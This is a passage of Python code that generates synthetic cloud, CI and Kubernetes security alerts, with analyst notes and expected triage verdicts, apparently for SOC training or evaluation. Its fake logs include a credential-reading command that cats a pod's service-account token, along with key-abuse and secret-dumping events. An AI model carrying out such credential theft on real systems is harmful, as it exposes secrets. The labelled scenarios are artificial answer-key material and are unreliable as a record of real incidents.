             "resource": {"accessKeyDetails": {"accessKeyId": key, "userName": sa, "userType": "IAMUser"},
                          "s3BucketDetails": [{"name": bucket}]},
             "service": {"action": {"awsApiCallAction": {"api": "GetObject", "remoteIpDetails": {"ipAddressV4": ip,
                                                                                               "organization": {"asnOrg": pick(HOSTING_ASN)}}}},
                         "count": rng.randint(4000, 40000)}, "updatedAt": "__T__"},
            ents={"cloud_accounts": [acct], "service_accounts": [sa], "ips": [ip], "tokens": [key[:8] + "****"]},
            asset=("production", "critical", "data-eng"))
    notes = pick([
        "Key for %s (last rotated 2022) pulled tens of thousands of objects from %s via %s. The key sat in an old Jenkins job config that was exposed through an unauthenticated Jenkins instance. Key revoked, bucket policy restricted to VPC endpoint, privacy team engaged for data assessment." % (sa, bucket, ip),
        "Anomalous GetObject volume from %s using a long-lived key belonging to %s. Confirmed exfil of %s. Revoked key, contained bucket with deny-all except break-glass, legal/privacy notified." % (ip, sa, bucket),
    ])
    return out("Leaked key for %s used to read %s" % (sa, bucket), "critical", ["T1552.001", "T1078.004", "T1530"], notes,
               ["revoke_token", "contain_cloud_resource", "block_indicator", "notify_owner", "collect_forensics"])


@scenario("rb-leaked-cloud-access-key", "benign")
def leaked_key_canary(c):
    name, acct = c.aws("security-audit")
    key = aws_key()
    ip = int_ip("10.250")
    c.alert("aws-cloudtrail", "Access key used from unknown IP with reconnaissance pattern", "high",
            cloudtrail("GetCallerIdentity", "sts.amazonaws.com", iam_user(acct, "canary-build-cache", key), ip, "TruffleHog", ro=True),
            ents={"cloud_accounts": [acct], "ips": [ip], "tokens": [key[:8] + "****"]}, asset=("production", "low", "secops"))
    notes = pick([
        "canary-build-cache (%s****) is one of our honeytoken keys; it was verified by TruffleHog from %s, the red team's box, during the scheduled secrets sweep. Canary worked as intended." % (key[:8], ip),
        "Honeytoken %s**** tripped by our own TruffleHog run from the pentest VLAN (%s). Re-armed the canary." % (key[:8], ip),
    ])
    return out("Canary key %s**** tripped by internal sweep" % key[:8], "informational", ["T1552.001"], notes, [])


@scenario("rb-leaked-cloud-access-key", "false_positive")
def leaked_key_example_string(c):
    r = c.repo()
    key = "AKIAIOSFODNN7EXAMPLE"
    c.alert("github-audit", "Secret scanning: AWS access key in commit", "medium",
            gh("secret_scanning_alert.create", "github-secret-scanning", "", repo=r,
               extra={"secret_type": "aws_access_key_id", "secret": key[:8] + "****", "path": "docs/configuration.md", "public": False}),
            ents={"repositories": [r]}, asset=("development", "low", "devex"))
    notes = pick([
        "The matched key is the documentation placeholder AKIAIOSFODNN7EXAMPLE in docs/configuration.md of %s. Not a real credential; marked 'used in tests' in secret scanning." % r,
        "Placeholder AWS key from vendor docs copied into %s README. No such key exists in any account. Dismissed as false positive." % r,
    ])
    return out("Placeholder AWS key flagged in %s" % r, "informational", ["T1552.001"], notes, [])


@scenario("rb-leaked-pat", "true_positive")
def pat_leaked_clone_spree(c):
    u = c.person()
    ip = ext_ip()
    n = rng.randint(40, 300)
    c.alert("github-audit", "Personal access token used from new IP to clone many repositories", "high",
            gh("git.clone", u.gh, ip, repo=c.repo(), ua="git/2.39.2",
               extra={"programmatic_access_type": "Personal access token (classic)", "hashed_token": base64.b64encode(bytes.fromhex(hexs(64))).decode(),
                      "token_scopes": "repo,read:org,workflow", "distinct_repos_1h": n, "transport_protocol_name": "http"}),
            ents={"users": [u.gh], "ips": [ip], "tokens": ["ghp_****" + alnum(4)]}, asset=("production", "high", "devex"))
    notes = pick([
        "Classic PAT for %s with repo+workflow scope cloned %d repos in an hour from %s; the user's laptop was at home on a different ISP. Token was in a .npmrc on a personal VPS. Revoked via org credential revocation, forced SSO re-auth, and enforced fine-grained tokens with max 30-day life." % (u.gh, n, ip),
        "Mass clone with %s's token from an IP never seen for the org. Revoked the token, audited what was cloned (includes infra-terraform with state backend config), and rotated the two secrets that were referenced in those repos." % u.gh,
    ])
    return out("Leaked PAT for %s used to clone %d repos" % (u.gh, n), "high", ["T1552.001", "T1528", "T1213.003"], notes,
               ["revoke_token", "rotate_secret", "notify_owner", "change_org_policy"])


@scenario("rb-leaked-pat", "true_positive")
def pat_gitlab_runner_token(c):
    u = c.person()
    ip = ext_ip()
    proj = "exm/%s" % pick(["platform/deploy-scripts", "web/storefront", "data/airflow-dags"])
    c.alert("gitlab-audit", "Personal access token used from unrecognised IP", "high",
            gl("personal_access_token_used", u.gh, ip, proj, {"token_name": pick(["laptop", "ci-temp", "debug"]),
                                                             "scopes": ["api", "write_repository"], "token": "glpat-****"}),
            ents={"users": [u.gh], "ips": [ip], "tokens": ["glpat-****"], "repositories": [proj]},
            asset=("production", "high", "platform-eng"))
    c.alert("gitlab-audit", "CI/CD variable read via API", "high",
            gl("ci_variables_read", u.gh, ip, proj, {"variables": ["AWS_SECRET_ACCESS_KEY", "SLACK_WEBHOOK", "NPM_TOKEN"]}),
            off=3, ents={"users": [u.gh], "ips": [ip], "repositories": [proj]}, asset=("production", "high", "platform-eng"))
    notes = pick([
        "glpat token '%s' scoped api was pasted into a public gist by %s while debugging; used from %s to dump CI variables of %s. Revoked token, rotated every exposed CI variable (AWS, Slack webhook, npm)." % ("debug", u.name, ip, proj),
        "API-scoped GitLab token used from %s to read CI variables on %s. Confirmed leak via a pastebin-style site. Token revoked, three secrets rotated, variables switched to masked+protected." % (ip, proj),
    ])
    return out("GitLab token abuse on %s" % proj, "high", ["T1552.001", "T1528", "T1552"], notes,
               ["revoke_token", "rotate_secret", "notify_owner"])


@scenario("rb-leaked-pat", "benign")
def pat_new_laptop(c):
    u = c.person()
    ip = ext_ip()
    c.alert("github-audit", "Personal access token used from new IP", "low",
            gh("git.fetch", u.gh, ip, repo=c.repo(), extra={"programmatic_access_type": "Fine-grained personal access token"}),
            ents={"users": [u.gh], "ips": [ip], "tokens": ["github_pat_****"]}, asset=("production", "low", "devex"))
    notes = pick([
        "%s got a replacement laptop and is working from a co-working space (%s). Fine-grained token, read-only on two repos, SSO-authorised yesterday. Normal." % (u.gh, ip),
        "New IP for %s's fine-grained token matches their Okta session IP at the same minute. Benign." % u.gh,
    ])
    return out("Token for %s from new IP (new laptop)" % u.gh, "informational", ["T1528"], notes, [])


@scenario("rb-leaked-pat", "false_positive")
def pat_revoked_already(c):
    r = c.repo()
    c.alert("github-audit", "Secret scanning: GitHub token pushed to repository", "high",
            gh("secret_scanning_alert.create", "github-secret-scanning", "", repo=r,
               extra={"secret_type": "github_personal_access_token", "secret": "ghp_****", "validity": "inactive",
                      "path": "tests/fixtures/recorded_cassette.yaml"}),
            ents={"repositories": [r], "tokens": ["ghp_****"]}, asset=("development", "low", "devex"))
    notes = pick([
        "Token in a VCR cassette under tests/fixtures in %s; GitHub reports it inactive and the token id maps to one revoked in 2023. Scrubbed the fixture; no exposure." % r,
        "Recorded HTTP fixture in %s carries an already-revoked ghp_ token (validity inactive; the token id is in the 2023 revocation batch). Closed; ticket to add tests/fixtures to the pre-commit scrubber." % r
    ])
    return out("Inactive GitHub token in test fixture of %s" % r, "informational", ["T1552.001"], notes, ["create_ticket"])


@scenario("rb-cicd-credential-minting", "true_positive")
def cicd_oidc_from_fork(c):
    name, acct = c.aws("prod-core")
    r = c.repo()
    role = "gha-deploy-%s" % r.split("/")[1]
    ip = ext_ip()
    c.alert("aws-cloudtrail", "OIDC role assumed by workflow from unexpected ref", "critical",
            cloudtrail("AssumeRoleWithWebIdentity", "sts.amazonaws.com",
                       {"type": "WebIdentityUser", "principalId": "arn:aws:iam::%s:oidc-provider/token.actions.githubusercontent.com:sts.amazonaws.com:repo:%s:pull_request" % (acct, r),
                        "userName": "repo:%s:pull_request" % r, "identityProvider": "arn:aws:iam::%s:oidc-provider/token.actions.githubusercontent.com" % acct},
                       ip, "aws-sdk-nodejs/2.1562.0 linux/v20.11.1 configure-aws-credentials-for-github-actions",
                       req={"roleArn": "arn:aws:iam::%s:role/%s" % (acct, role), "roleSessionName": "GitHubActions"}, acct=acct),
            ents={"cloud_accounts": [acct], "repositories": [r], "ips": [ip]}, asset=("production", "critical", "platform-eng"))
    c.alert("aws-cloudtrail", "Secrets read by CI role outside deploy workflow", "high",
            cloudtrail("GetSecretValue", "secretsmanager.amazonaws.com", assumed(acct, role, "GitHubActions"), ip,
                       "aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0-1016-azure exe/x86_64.ubuntu.22 prompt/off command/secretsmanager.get-secret-value",
                       req={"secretId": "prod/%s/db-master" % r.split("/")[1]}, ro=True),
            off=1, ents={"cloud_accounts": [acct], "ips": [ip]}, asset=("production", "critical", "platform-eng"))
    notes = pick([
        "The role trust policy for %s allowed sub 'repo:%s:*', so a pull_request workflow from an external contributor's fork could assume it. The PR added a step that read prod/%s/db-master. Tightened the trust to ref:refs/heads/main + environment:production, rotated the DB secret, closed the PR and banned the account." % (role, r, r.split("/")[1]),
        "Credential minting from a PR context: the sub claim for %s ended in :pull_request, which %s should never accept. Rotated the secret it read, fixed the trust condition, and audited the other gha-* roles (two had the same wildcard)." % (r, role),
    ])
    return out("CI OIDC role %s assumed from pull_request context" % role, "critical", ["T1078.004", "T1098.001", "T1552.001", "T1677"], notes,
               ["rotate_secret", "change_org_policy", "contain_cloud_resource", "notify_owner"])


@scenario("rb-cicd-credential-minting", "true_positive")
def cicd_runner_token_reuse(c):
    proj = pick(GCP_PROJECTS)
    sa = "ci-deployer@%s.iam.gserviceaccount.com" % proj
    ip = ext_ip()
    c.alert("gcp-audit", "CI service account minted access token outside pipeline window", "high",
            gcp("GenerateAccessToken", "iamcredentials.googleapis.com", sa, ip, "google-api-go-client/0.5 gcloud-golang",
                proj, "service_account", "projects/-/serviceAccounts/%s" % sa,
                req={"lifetime": "3600s", "scope": ["https://www.googleapis.com/auth/cloud-platform"],
                     "name": "projects/-/serviceAccounts/deploy-admin@%s.iam.gserviceaccount.com" % proj}),
            ents={"service_accounts": [sa], "ips": [ip]}, asset=("production", "critical", "platform-eng"))
    notes = pick([
        "No pipeline was running; the call came from %s, not the runner pool's NAT. The self-hosted runner had a cached SA key in /home/runner/.config/gcloud, and a compromised job from a poisoned dependency exfiltrated it. Deleted the key, moved runners to workload identity federation, rebuilt runner images." % ip,
        "%s impersonated deploy-admin at %s from an address outside the CI ranges with no matching job. Key disabled, IAM policy reviewed (no changes made by attacker), runner host reimaged." % (sa.split("@")[0], c.hhmm()),
    ])
    return out("ci-deployer minted token outside pipeline in %s" % proj, "high", ["T1078.004", "T1098.001", "T1552.001"], notes,
               ["rotate_secret", "delete_resource", "quarantine_workload", "block_indicator"])


@scenario("rb-cicd-credential-minting", "benign")
def cicd_new_runner(c):
    name, acct = c.aws("staging")
    r = c.repo()
    ip = ext_ip()
    c.alert("aws-cloudtrail", "OIDC role assumed from new source IP", "medium",
            cloudtrail("AssumeRoleWithWebIdentity", "sts.amazonaws.com",
                       {"type": "WebIdentityUser", "userName": "repo:%s:environment:staging" % r}, ip,
                       "aws-sdk-nodejs/2.1562.0 configure-aws-credentials-for-github-actions",
                       req={"roleArn": "arn:aws:iam::%s:role/gha-staging-deploy" % acct}, acct=acct),
            ents={"cloud_accounts": [acct], "repositories": [r], "ips": [ip]}, asset=("staging", "medium", "platform-eng"))
    notes = pick([
        "%s is one of the larger GitHub-hosted runners platform-eng moved %s onto this week; sub claim is environment:staging and matches a real workflow run at that second." % (ip, r),
        "New runner egress %s for %s deploys to staging (%s). Run logs line up with the AssumeRole. Baseline updated." % (ip, r, acct),
    ])
    return out("gha-staging-deploy assumed from new runner %s" % ip, "informational", ["T1078.004"], notes, [])


@scenario("rb-cicd-credential-minting", "false_positive")
def cicd_rerun(c):
    name, acct = c.aws("prod-payments")
    r = ORG + "/payments-api"
    run = rng.randint(7000000000, 9999999999)
    c.alert("aws-cloudtrail", "CI role session minted twice for one run", "medium",
            cloudtrail("AssumeRoleWithWebIdentity", "sts.amazonaws.com", {"type": "WebIdentityUser", "userName": "repo:%s:ref:refs/heads/main" % r},
                       ext_ip(), "configure-aws-credentials-for-github-actions",
                       req={"roleArn": "arn:aws:iam::%s:role/gha-deploy-payments" % acct, "roleSessionName": "GitHubActions-%d-2" % run}, acct=acct),
            ents={"cloud_accounts": [acct], "repositories": [r]}, asset=("production", "high", "payments-team"))
    notes = pick([
        "Run %d of %s was re-run after a flaky integration test, so gha-deploy-payments was assumed twice for the same run id (attempt 2 in the session name). The rule keys on run id only; switched it to run id + attempt." % (run, r),
        "Second session in %s is the 'Re-run failed jobs' button on run %d, same main-branch sub claim. Not minting outside the pipeline." % (acct, run),
    ])
    return out("gha-deploy-payments assumed twice on re-run %d" % run, "informational", ["T1078.004"], notes, ["create_ticket"])


@scenario("rb-overpermissioned-integration", "true_positive")
def integ_github_app_admin(c):
    app = pick(["pr-summary-bot", "ai-code-reviewer", "stale-issue-cleaner", "changelog-gen"])
    u = c.person()
    c.alert("github-audit", "GitHub App installed with organization administration write", "high",
            gh("integration_installation.create", u.gh, ext_ip(),
               extra={"integration": app, "permissions": {"administration": "write", "contents": "write", "secrets": "write",
                                                          "members": "write", "workflows": "write"},
                      "repository_selection": "all"}),
            ents={"users": [u.gh]}, asset=("production", "high", "devex"))
    c.alert("github-audit", "App created deploy key on many repositories", "high",
            gh("public_key.create", app + "[bot]", ext_ip(), repo=c.repo(), extra={"read_only": False, "count_15m": rng.randint(12, 60)}),
            off=rng.randint(30, 300), ents={"users": [app + "[bot]"]}, asset=("production", "high", "devex"))
    notes = pick([
        "'%s' was installed by %s on all repos with administration, secrets and workflows write; a PR-summary tool needs read contents and write pull requests only. Within hours it added write deploy keys across repos. Uninstalled the app, removed the keys, and made app installs require org-owner approval." % (app, u.gh),
        "Over-scoped app abused: %s (installed by %s) added writable deploy keys across the org. The app's owner is an unknown individual account. Uninstalled, keys purged, secrets reachable by those repos rotated." % (app, u.gh),
    ])
    return out("Over-privileged GitHub App '%s' adding deploy keys" % app, "high", ["T1098.003", "T1528", "T1098"], notes,
               ["revoke_oauth_grant", "delete_resource", "rotate_secret", "change_org_policy"])


@scenario("rb-overpermissioned-integration", "true_positive")
def integ_slack_ai_bot(c):
    u = c.person()
    app = pick(["MeetingNotesAI", "SlackSummarizer", "ChannelArchiverPro"])
    c.alert("entra-id", "Admin consent granted with directory-wide scopes", "high",
            entra_audit("Add app role assignment to service principal", {"user": {"userPrincipalName": u.upn}},
                        [{"displayName": app, "type": "ServicePrincipal", "id": guid(),
                          "modifiedProperties": [{"displayName": "AppRole.Value", "newValue": "Directory.ReadWrite.All"},
                                                 {"displayName": "AppRole.Value", "newValue": "Mail.ReadWrite"}]}],
                        details={"PublisherVerified": "false"}),
            ents={"users": [u.upn]}, asset=("corporate", "high", "identity-team"))
    notes = pick([
        "%s (cloud app admin) granted '%s' application permissions Directory.ReadWrite.All and Mail.ReadWrite to trial a meeting-notes feature. Vendor only needs Calendars.Read delegated. Removed the app role assignments; vendor review opened before any re-grant." % (u.name, app),
        "Application-level Mail.ReadWrite + Directory.ReadWrite.All for '%s', a note-taking bot, is tenant-wide over-permission granted by %s. No misuse in the service principal's sign-in logs yet; revoked and re-requested with minimum scopes." % (app, u.upn),
    ])
    return out("App '%s' granted directory-wide write" % app, "medium", ["T1098.003", "T1528"], notes,
               ["revoke_oauth_grant", "notify_owner", "create_ticket"])


@scenario("rb-overpermissioned-integration", "benign")
def integ_backup_vendor(c):
    app = pick(["Veeam Backup for M365", "Druva inSync", "AvePoint Cloud Backup"])
    u = c.person()
    ch = chg()
    c.alert("entra-id", "Admin consent granted with directory-wide scopes", "medium",
            entra_audit("Consent to application", {"user": {"userPrincipalName": u.upn}},
                        [{"displayName": app, "type": "ServicePrincipal", "id": guid(),
                          "modifiedProperties": [{"displayName": "ConsentAction.Permissions", "newValue": "Sites.FullControl.All Mail.ReadWrite Files.ReadWrite.All"}]}],
                        details={"PublisherVerified": "true"}),
            ents={"users": [u.upn]}, asset=("corporate", "high", "corp-it"))
    notes = pick([
        "%s needs tenant-wide mailbox and site access to back them up; security review and procurement done under %s, consent performed by %s as M365 admin. Added to the sanctioned high-privilege app register." % (app, ch, u.upn),
        "Backup onboarding: scopes match %s's documentation exactly and the consent was announced at CAB (%s)." % (app, ch),
    ])
    return out("%s admin consent by %s" % (app, u.sam), "informational", ["T1098.003"], notes, ["create_ticket"])


@scenario("rb-overpermissioned-integration", "false_positive")
def integ_scope_rename(c):
    app = pick(["Jira Cloud", "Zoom", "PagerDuty"])
    admin = "google-admin@" + EMAIL_DOMAIN
    c.alert("google-workspace", "Third-party app granted new high-risk scope", "medium",
            gws("token", "authorize", admin, int_ip(),
                {"app_name": app, "scope": "https://www.googleapis.com/auth/calendar.events", "client_type": "WEB"}),
            ents={"users": [admin]}, asset=("corporate", "low", "corp-it"))
    notes = pick([
        "The 'new' scope for %s is calendar.events, replacing the broader calendar scope it already held; the vendor narrowed access in their last release. Rule treats any new scope string as expansion." % app,
        "%s re-authorised by %s with calendar.events only. That's a reduction. FP." % (app, admin),
    ])
    return out("%s scope change (narrowing) authorised by %s" % (app, admin.split("@")[0]), "informational", ["T1098.003"], notes, [])


@scenario("rb-stale-token-reuse", "true_positive")
def stale_key_reactivated(c):
    name, acct = c.aws(pick(["prod-core", "shared-services"]))
    sa = pick(["jenkins-legacy", "old-backup-sync", "tf-bootstrap", "s3-migration-2021"])
    key = aws_key()
    ip = ext_ip()
    days = rng.randint(240, 900)
    c.alert("aws-cloudtrail", "Access key unused for months suddenly active", "high",
            cloudtrail("ListUsers", "iam.amazonaws.com", iam_user(acct, sa, key), ip, attack_ua("iam.list-users"), ro=True),
            ents={"cloud_accounts": [acct], "service_accounts": [sa], "ips": [ip], "tokens": [key[:8] + "****"]},
            asset=("production", "high", "platform-eng"))
    c.alert("aws-cloudtrail", "New access key created for another user", "critical",
            cloudtrail("CreateAccessKey", "iam.amazonaws.com", iam_user(acct, sa, key), ip, attack_ua("iam.create-access-key"),
                       req={"userName": pick(["admin-breakglass", "terraform-admin", "ops-admin"])}),
            off=4, ents={"cloud_accounts": [acct], "service_accounts": [sa], "ips": [ip]}, asset=("production", "critical", "platform-eng"))
    notes = pick([
        "%s's key had not been used for %d days, then ListUsers and CreateAccessKey for an admin user from %s. Both keys disabled, the new key deleted, and %s removed entirely: nobody owned it. Searched for the key string; it was in an archived Confluence runbook." % (sa, days, ip, sa),
        "Dormant key (%d days) reactivated to persist via a new admin key. Contained: keys deactivated, created key deleted, IP blocked, access advisor reviewed for other dormant users (7 found, queued for removal)." % days,
    ])
    return out("Dormant key for %s reactivated from %s" % (sa, ip), "critical", ["T1078.004", "T1550.001", "T1098.001"], notes,
               ["revoke_token", "delete_resource", "block_indicator", "disable_account"])


@scenario("rb-stale-token-reuse", "true_positive")
def stale_slack_token(c):
    ip = ext_ip()
    tok = "xoxb-****"
    c.alert("slack-audit", "Dormant bot token used against chat API from external IP", "medium",
            {"source_system": "slack-audit", "action": "app_token_used", "app": pick(["old-deploy-notifier", "jira-bridge-v1"]),
             "token": tok, "ip_address": ip, "methods": ["conversations.list", "conversations.history", "files.list"],
             "last_used_before": "2023-0%d-1%d" % (rng.randint(1, 9), rng.randint(0, 9)), "date_create": "__T__"},
            ents={"ips": [ip], "tokens": [tok]}, asset=("corporate", "medium", "corp-it"))
    notes = pick([
        "Bot token of a retired integration, unused for over a year, suddenly reading conversations.history and files.list from %s. Token was hard-coded in a public mirror of an old internal tool. Revoked the app, rotated signing secret, reviewed what channels were readable (eng-alerts, deploys)." % ip,
        "Retired Slack app token replayed from %s. Uninstalled the app, revoked the token, and checked for posted content (none)." % ip,
    ])
    return out("Retired bot token reused from %s" % ip, "medium", ["T1550.001", "T1078.004", "T1213"], notes,
               ["revoke_token", "delete_resource", "block_indicator"])


@scenario("rb-stale-token-reuse", "benign")
def stale_quarterly_job(c):
    name, acct = c.aws("data-lake")
    sa = pick(["quarterly-finance-export", "annual-archive-job", "dr-restore-test"])
    c.alert("aws-cloudtrail", "Access key unused for months suddenly active", "medium",
            cloudtrail("PutObject", "s3.amazonaws.com", iam_user(acct, sa), int_ip("10.60"), pick(UA_BOTO),
                       req={"bucketName": "exm-finance-archive", "key": "exports/%s/q%d.parquet" % (c.t0.year, rng.randint(1, 4))}),
            ents={"cloud_accounts": [acct], "service_accounts": [sa]}, asset=("production", "medium", "finance-systems"))
    notes = pick([
        "%s in %s only runs at quarter close, from the batch VPC, writing to exm-finance-archive; a three-month gap is by design. Asked finance-systems to move it to a role so it stops tripping the dormancy logic." % (sa, acct),
        "Dormancy alert on %s: quarter-end job from private subnet, same bucket/prefix as last quarter. Benign." % sa,
    ])
    return out("Dormancy alert on %s at Q%s close (%s)" % (sa, (c.t0.month - 1) // 3 + 1, name), "informational", ["T1078.004"], notes, ["create_ticket"])


@scenario("rb-stale-token-reuse", "false_positive")
def stale_clock_skew(c):
    u = c.person()
    c.alert("github-audit", "Token unused for 180 days used again", "low",
            gh("personal_access_token.access_granted", u.gh, int_ip(), extra={"token_last_used": None, "token_created_at": c.day()}),
            ents={"users": [u.gh]}, asset=("production", "low", "devex"))
    notes = pick([
        "Token for %s was created on %s; token_last_used is null for a token's first use and the rule read null as 'idle forever'. Rule now requires a non-null last-use older than 180 days." % (u.gh, c.day()),
        "Brand-new token (%s, created today), not a stale one. Null handling bug in the detection." % u.gh,
    ])
    return out("Stale-token alert on new token for %s" % u.gh, "informational", ["T1550.001"], notes, ["create_ticket"])


@scenario("rb-secrets-in-repository", "true_positive")
def secret_push_prod_db(c):
    u = c.person()
    r = c.repo()
    path = pick(["config/production.env", "deploy/values-prod.yaml", "scripts/migrate.py", "terraform/prod.tfvars"])
    stype = pick([("postgres_connection_uri", "postgres://app:****@db-prod-01.internal.example.com:5432/payments"),
                  ("stripe_live_secret_key", "sk_live_****"), ("slack_webhook_url", "https://hooks.slack.com/services/T****"),
                  ("azure_storage_account_key", "DefaultEndpointsProtocol=https;AccountName=exmprodblob;AccountKey=****")])
    c.alert("github-audit", "Push protection bypassed for live secret", "high",
            gh("secret_scanning_push_protection.bypass", u.gh, int_ip(), repo=r,
               extra={"secret_type": stype[0], "secret": stype[1], "path": path, "bypass_reason": pick(["false_positive", "used_in_tests", "will_fix_later"]),
                      "commit_sha": sha1()}),
            ents={"users": [u.gh], "repositories": [r], "files": [path]}, asset=("production", "high", c.team()))
    notes = pick([
        "%s bypassed push protection claiming '%s', but the %s in %s is the live production value. Repo is internal (500+ readers). Rotated the credential with the owning team, rewrote history, and coached the developer." % (u.gh, "false positive", stype[0], path),
        "Live %s committed to %s:%s. No evidence of use from unknown IPs in the 40 minutes it was exposed, but rotated anyway and purged the commit from all forks." % (stype[0], r, path),
    ])
    return out("Live %s committed to %s" % (stype[0], r), "high", ["T1552.001"], notes,
               ["rotate_secret", "notify_owner", "create_ticket"])


@scenario("rb-secrets-in-repository", "true_positive")
def secret_public_fork(c):
    r = c.repo()
    ip = ext_ip()
    c.alert("github-audit", "Secret scanning: private key in public repository", "critical",
            gh("secret_scanning_alert.create", "github-secret-scanning", "", repo=r.replace(ORG, ORG + "-oss"),
               extra={"secret_type": "rsa_private_key", "path": ".github/deploy_key", "public": True, "validity": "active"}),
            ents={"repositories": [r]}, asset=("production", "high", "devex"))
    c.alert("auditd", "SSH login with deploy key from external address", "high",
            sshd_log("git-mirror-01", "Accepted publickey for deploy from %s port %d ssh2: RSA SHA256:%s" % (ip, rng.randint(30000, 60000), alnum(43))),
            off=rng.randint(20, 200), ents={"hosts": ["git-mirror-01"], "ips": [ip]}, asset=("production", "high", "devex"))
    notes = pick([
        "The OSS mirror of %s shipped .github/deploy_key, and that key was accepted on git-mirror-01 from %s. Removed the key from authorized_keys, rotated all deploy keys for the mirror, rewrote the public history and filed a takedown for forks." % (r, ip),
        "Active deploy private key in a public repo and used by %s shortly after. Key revoked, host checked (read-only git user, no shell), history scrubbed." % ip,
    ])
    return out("Deploy private key exposed in public mirror of %s" % r, "high", ["T1552.004", "T1552.001", "T1078"], notes,
               ["rotate_secret", "block_indicator", "delete_resource"])


@scenario("rb-secrets-in-repository", "false_positive")
def secret_test_key(c):
    r = c.repo()
    c.alert("gitlab-audit", "Secret detection: high-entropy string in commit", "medium",
            gl("secret_detection_finding", "gitlab-security-bot", int_ip(), "exm/" + r.split("/")[1],
               {"rule": "Generic API Key", "file": "spec/fixtures/jwt_test_private.pem", "match": "-----BEGIN PRIVATE KEY-----****"}),
            ents={"repositories": ["exm/" + r.split("/")[1]]}, asset=("development", "low", "devex"))
    notes = pick([
        "Key under spec/fixtures in %s is a throwaway generated for JWT unit tests and is not trusted anywhere; no verifier config contains its public half. FP, path allowlisted." % r,
        "Test-only private key in spec/fixtures of %s. Not used by any environment. Dismissed." % r,
    ])
    return out("Test fixture key flagged in %s" % r, "informational", ["T1552.001"], notes, [])


@scenario("rb-secrets-in-repository", "benign")
def secret_rotated_before(c):
    u = c.person()
    r = c.repo()
    c.alert("github-audit", "Secret scanning: credential in commit history", "medium",
            gh("secret_scanning_alert.create", "github-secret-scanning", "", repo=r,
               extra={"secret_type": "npm_access_token", "secret": "npm_****", "validity": "inactive",
                      "commit_date": "2022-1%d-0%d" % (rng.randint(0, 2), rng.randint(1, 9))}),
            ents={"repositories": [r], "tokens": ["npm_****"]}, asset=("production", "low", "devex"))
    notes = pick([
        "Historical hit after enabling scanning on %s: npm token from a 2022 commit, revoked in the 2023 npm org cleanup (validity inactive). Nothing to rotate; closed and left a note for %s to squash the history." % (r, u.gh),
        "Old, already-inactive npm token in history of %s. Confirmed in npm audit log that it was deleted. Closed." % r,
    ])
    return out("Old inactive npm token in history of %s" % r, "informational", ["T1552.001"], notes, [])


@scenario("rb-k8s-service-account-token-abuse", "true_positive")
def k8s_sa_outside_pod(c):
    cl, env, ns = c.k8s()
    sa = "system:serviceaccount:%s:%s" % (ns, pick(["default", ns + "-api", "deployer", "argo-workflow"]))
    ip = ext_ip()
    c.alert("kubernetes-audit", "Service account token used from IP outside cluster", "critical",
            k8s("list", sa, ["system:serviceaccounts", "system:serviceaccounts:" + ns, "system:authenticated"], [ip],
                "/api/v1/secrets?limit=500", "secrets", "", ua="kubectl/v1.28.2 (darwin/arm64) kubernetes/89a4ea3"),
            ents={"service_accounts": [sa], "ips": [ip]}, asset=(env, "critical", c.team()))
    c.alert("kubernetes-audit", "Service account attempted to create cluster role binding", "high",
            k8s("create", sa, ["system:serviceaccounts"], [ip], "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings",
                "clusterrolebindings", "", code=403, decision="forbid", ua="kubectl/v1.28.2 (darwin/arm64) kubernetes/89a4ea3"),
            off=2, ents={"service_accounts": [sa], "ips": [ip]}, asset=(env, "critical", c.team()))
    notes = pick([
        "%s's token was used from %s with a darwin kubectl, i.e. copied out of the pod. It listed secrets cluster-wide on %s (its role allowed it, which is the real bug) and failed a ClusterRoleBinding. Token source: an SSRF in the %s service reading /var/run/secrets. Deleted the SA token secret, rotated the exposed secrets, scoped the role to its namespace." % (sa, ip, cl, ns),
        "Pod token replay from an external Mac. Namespaces' secrets were readable. Rotated the token (recreated SA), rotated every secret listed, blocked %s at the API server allowlist, and patched the SSRF." % ip,
    ])
    return out("K8s token %s used from outside %s" % (sa.split(":")[-1], cl), "critical", ["T1528", "T1078.001", "T1552.007", "T1613"], notes,
               ["revoke_token", "rotate_secret", "block_indicator", "quarantine_workload"])


@scenario("rb-k8s-service-account-token-abuse", "true_positive")
def k8s_sa_exec_from_pod(c):
    cl, env, ns = c.k8s()
    pod = c.pod(pick(["reporting-ui", "pdf-render", "image-resizer"]))
    sa = "system:serviceaccount:%s:%s" % (ns, pod.rsplit("-", 2)[0])
    pod_ip = int_ip("10.244")
    c.alert("falco", "Service account token read by shell in container", "high",
            falco("Read sensitive file untrusted", "Warning",
                  "Sensitive file opened for reading by non-trusted program (file=/var/run/secrets/kubernetes.io/serviceaccount/token command=cat)",
                  {"k8s.ns.name": ns, "k8s.pod.name": pod, "proc.cmdline": "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
                   "proc.pname": "sh", "container.image.repository": "registry.example.com/%s/%s" % (ns, pod.rsplit("-", 2)[0]), "user.name": "www-data",
                   "k8s.node.name": "ip-10-0-%d-%d.ec2.internal" % (rng.randint(1, 200), rng.randint(1, 200))}),
            ents={"service_accounts": [sa], "hosts": [pod]}, asset=(env, "high", c.team()))
    c.alert("kubernetes-audit", "Service account queried permissions (SelfSubjectRulesReview)", "medium",
            k8s("create", sa, ["system:serviceaccounts"], [pod_ip], "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews",
                "selfsubjectrulesreviews", ns, ua="curl/7.88.1"), off=1, ents={"service_accounts": [sa], "ips": [pod_ip]},
            asset=(env, "high", c.team()))
    notes = pick([
        "Shell spawned in %s as www-data catted the SA token and then curl asked the API what it could do. Entry point: RCE in the image-processing library. Pod killed, deployment scaled to 0 pending patch, SA token rotated, automountServiceAccountToken set false (the app never needed it)." % pod,
        "Hands-on-keyboard inside %s (%s): token read + SelfSubjectRulesReview from curl. Quarantined the workload, rotated the token, disabled automount." % (pod, cl),
    ])
    return out("SA token harvested inside pod %s" % pod, "high", ["T1528", "T1552.007", "T1609"], notes,
               ["quarantine_workload", "revoke_token", "collect_forensics", "kill_process"])


@scenario("rb-k8s-service-account-token-abuse", "benign")
def k8s_sa_ci_kubectl(c):
    cl, env, ns = c.k8s()
    sa = "system:serviceaccount:%s:deployer" % ns
    ip = ext_ip()
    c.alert("kubernetes-audit", "Service account token used from IP outside cluster", "medium",
            k8s("patch", sa, ["system:serviceaccounts"], [ip], "/apis/apps/v1/namespaces/%s/deployments/%s" % (ns, ns + "-api"),
                "deployments", ns, name=ns + "-api", ua="argocd-application-controller/v2.10.4"),
            ents={"service_accounts": [sa], "ips": [ip]}, asset=(env, "medium", "platform-eng"))
    notes = pick([
